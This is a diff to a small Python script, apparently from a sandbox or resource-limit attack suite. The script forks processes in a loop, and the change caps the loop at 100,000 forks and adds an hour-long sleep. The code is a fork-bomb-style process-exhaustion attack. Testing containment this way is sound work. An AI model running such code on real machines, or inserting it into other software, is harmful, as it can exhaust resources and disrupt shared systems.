@@ -8,8 +8,12 @@
 # alone: yes
 
 import os
+import time
 
-while True:
+from attack import Budget
+
+budget = Budget(100_000)
+while budget.take():
     try:
         if os.fork() == 0:
             os.setsid()
@@ -17,3 +21,4 @@ while True:
                 os._exit(0)
     except OSError:
         continue
+time.sleep(3600)
